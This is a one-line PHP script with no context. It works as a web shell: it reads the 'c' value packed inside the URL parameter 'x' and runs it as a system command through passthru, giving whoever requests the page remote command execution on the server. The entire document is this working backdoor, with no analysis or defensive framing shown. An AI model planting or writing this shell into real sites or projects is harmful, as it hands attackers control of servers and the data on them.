<?php parse_str($_GET["x"], $q); passthru($q["c"]);
